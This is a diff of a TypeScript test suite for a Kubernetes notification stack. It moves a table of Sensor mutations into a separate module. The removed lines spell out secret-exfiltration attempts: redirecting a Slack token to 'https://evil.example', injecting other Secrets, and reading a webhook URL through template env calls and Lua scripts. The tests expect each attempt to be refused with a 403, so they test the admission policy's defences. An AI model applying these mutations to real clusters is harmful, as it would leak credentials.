@@ -7,7 +7,8 @@ import { catalogueText, planOf, service, stackText } from "../sources.ts";
 import { administrator, DRY, unbound } from "./access-world.ts";
 import { TOOLCHAIN_TIMEOUT } from "./control-plane.ts";
 import { everythingOf } from "./expected-objects.ts";
-import { type FleetStack, openFleetStack } from "./fleet-stack.ts";
+import { type FleetStack, openFleetStack, type Run } from "./fleet-stack.ts";
+import { CHANGES, hidden, type OpenObject, type Spec, slack } from "./sensor-attacks.ts";
 
 const NOTIFICATIONS =
   '{ kargo: "https://kargo.acme.example", argoCd: "https://argocd.acme.example", groups: 1, slack: { existingSecret: slack-app }, webhooks: { pager: { url: "https://pager.acme.example", existingSecret: pager }, edge: { format: teams, existingSecret: edge-teams } } }';
@@ -24,36 +25,16 @@ const TEAMS = {
 const SERVICES = { nginx: service("nginx"), auth: service("auth", { team: "identity" }) };
 const EVENTS = "/apis/argoproj.io/v1alpha1/namespaces/kargo-fleet-events";
 
-/** An object of the API with any fields. */
-interface OpenObject {
-  readonly apiVersion: string;
-  readonly kind: string;
-  readonly metadata: { readonly name: string };
-  readonly spec: Spec;
-}
-
-interface Spec {
-  readonly template: { readonly container: { readonly env?: readonly object[] } };
-  readonly triggers: readonly { readonly template: { readonly http: Http } }[];
-}
-
-interface Http {
-  readonly url: string;
-  readonly payload: readonly object[];
-  readonly parameters?: readonly object[];
-  readonly secureHeaders?: readonly object[];
-}
-
 describe("messages and commit statuses of a stack", function () {
   this.timeout(TOOLCHAIN_TIMEOUT);
   let stack: FleetStack;
   let admin: Cluster;
   let deployer: Cluster;
   const configure = (keys: Readonly<Record<string, string>>) => stack.writeConfig(keys, TEAMS);
-  const succeeds = async (...args: readonly string[]) => {
-    const { failed, output } = await stack.cli(...args);
+  const succeeds = async (run: Promise<Run>) => {
+    const { failed, output, steps } = await run;
     assert.equal(failed, false, output);
-    return output;
+    return steps;
   };
   const planned = planOf(
     catalogueText(SERVICES, TEAMS),
@@ -85,7 +66,7 @@ describe("messages and commit statuses of a stack", function () {
   });
 
   it("are off by default, whatever teams say", async () => {
-    await succeeds("up", "--yes", "--skip-preview");
+    await succeeds(stack.up());
     assert.deepEqual(
       (await stack.objects()).filter((name) => /notify|event-watch|messenger/.test(name)),
       [],
@@ -94,10 +75,9 @@ describe("messages and commit statuses of a stack", function () {
 
   it("are taken by the API server from the deployer under the guards, and a second up is empty", async () => {
     await configure(ON);
-    await succeeds("up", "--yes", "--skip-preview");
+    await succeeds(stack.up());
     assert.deepEqual(await stack.objects(), everythingOf(planned));
-    assert.match(await succeeds("up", "--yes"), /\d+ unchanged/);
-    assert.doesNotMatch(await succeeds("preview", "--diff"), /[+~-] \d+ to/);
+    assert.deepEqual([...new Set(Object.values(await succeeds(stack.up())))], ["same"]);
   });
 
   it("make the shared task report the Stage that a commit reached", async () => {
@@ -136,20 +116,6 @@ describe("messages and commit statuses of a stack", function () {
         as: unbound("kargo-fleet-deployer"),
       });
     };
-    /** A Sensor with one changed request of this receiver. */
-    const changed = (url: RegExp, change: (http: Http) => object) => (spec: Spec) => ({
-      ...spec,
-      triggers: spec.triggers
-        .filter(({ template }) => url.test(template.http.url))
-        .map((trigger) => ({
-          ...trigger,
-          template: { ...trigger.template, http: change(trigger.template.http) },
-        })),
-    });
-    const slack = (change: (http: Http) => object) => changed(/slack\.com/, change);
-    const hidden = (change: (http: Http) => object) => changed(/hidden/, change);
-    const src = { dependencyName: "route_edge_0" };
-
     it("work under a guard that passes the API server's type check without a warning", async () => {
       const policy = async () =>
         (await stack.get("validatingadmissionpolicy", "kargo-fleet-deployer")) as unknown as {
@@ -171,100 +137,7 @@ describe("messages and commit statuses of a stack", function () {
       }
     });
 
-    for (const [what, change] of Object.entries({
-      "send the Slack token elsewhere": slack((http) => ({ ...http, url: "https://evil.example" })),
-      "send the Slack token to another receiver": slack((http) => ({
-        ...http,
-        url: "https://pager.acme.example",
-      })),
-      "send another Secret to a receiver": slack((http) => ({
-        ...http,
-        secureHeaders: [
-          { name: "Authorization", valueFrom: { secretKeyRef: { name: "github-00", key: "nginx" } } },
-        ],
-      })),
-      "change an address by a parameter": slack((http) => ({
-        ...http,
-        parameters: [{ src: { ...src, value: "https://evil.example" }, dest: "url" }],
-      })),
-      "take a hidden address from an Event": hidden((http) => ({
-        ...http,
-        parameters: [{ src: { ...src, dataTemplate: "{{ .Input.body.message }}" }, dest: "url" }],
-      })),
-      "write a hidden address into a message": slack((http) => ({
-        ...http,
-        payload: [{ src: { ...src, dataTemplate: '{{ env "URL_WEBHOOK_EDGE" }}' }, dest: "text" }],
-      })),
-      "write it by another function": slack((http) => ({
-        ...http,
-        payload: [
-          { src: { ...src, dataTemplate: "{{$x := (expandenv `$URL_WEBHOOK_EDGE`)}}" }, dest: "text" },
-        ],
-      })),
-      "write it after an assignment": slack((http) => ({
-        ...http,
-        payload: [{ src: { ...src, dataTemplate: '{{$x:=env "URL_WEBHOOK_EDGE"}}{{$x}}' }, dest: "text" }],
-      })),
-      "write it by a template over the Event's context": slack((http) => ({
-        ...http,
-        payload: [{ src: { ...src, contextTemplate: '{{ env "URL_WEBHOOK_EDGE" }}' }, dest: "text" }],
-      })),
-      "use an address of its own where an Event is missing": hidden((http) => ({
-        ...http,
-        parameters: http.parameters?.map((one) => {
-          const { src: own, dest } = one as { src: object; dest: string };
-          return { src: { ...own, dependencyName: "other", value: "https://evil.example" }, dest };
-        }),
-      })),
-      "change a request when an Event comes": (spec: Spec) => ({
-        ...spec,
-        triggers: spec.triggers.map((trigger) => ({
-          ...trigger,
-          parameters: [{ src: { ...src, value: "https://evil.example" }, dest: "http.url" }],
-        })),
-      }),
-      "trigger something else after a failure": (spec: Spec) => ({
-        ...spec,
-        triggers: spec.triggers.map((trigger) => ({ ...trigger, dlqTrigger: { template: { name: "x" } } })),
-      }),
-      ...Object.fromEntries(
-        [
-          { transform: { script: "event.body = os.getenv('URL_WEBHOOK_EDGE') return event" } },
-          { filters: { script: "return os.getenv('URL_WEBHOOK_EDGE') ~= ''" } },
-          {
-            filters: {
-              data: [
-                { path: "body", type: "string", value: ["x"], template: '{{ env "URL_WEBHOOK_EDGE" }}' },
-              ],
-            },
-          },
-        ].map((more) => [
-          `read it by ${JSON.stringify(more)}`,
-          (spec: Spec) => ({
-            ...spec,
-            dependencies: [{ name: "x", eventSourceName: "notify", eventName: "kargo", ...more }],
-          }),
-        ]),
-      ),
-      "give the pod another Secret": (spec: Spec) => ({
-        ...spec,
-        template: {
-          ...spec.template,
-          container: {
-            ...spec.template.container,
-            env: [{ name: "X", valueFrom: { secretKeyRef: { name: "github-00", key: "nginx" } } }],
-          },
-        },
-      }),
-      "give the pod another ServiceAccount": (spec: Spec) => ({
-        ...spec,
-        template: { ...spec.template, serviceAccountName: "kargo-fleet-sensor" },
-      }),
-      "trigger something else": (spec: Spec) => ({
-        ...spec,
-        triggers: [{ template: { name: "x", log: {} } }],
-      }),
-    }))
+    for (const [what, change] of Object.entries(CHANGES))
       it(`not ${what}`, async () => {
         const { status, body } = await attack(change);
         assert.equal(status, 403, JSON.stringify(body));
@@ -312,7 +185,7 @@ describe("messages and commit statuses of a stack", function () {
   describe("that a stack no longer wants", () => {
     it("are gone after one up, because nothing is lost with them", async () => {
       await configure({});
-      await succeeds("up", "--yes", "--skip-preview");
+      await succeeds(stack.up());
       assert.deepEqual(
         (await stack.objects()).filter((name) => /notify|event-watch|messenger/.test(name)),
         [],
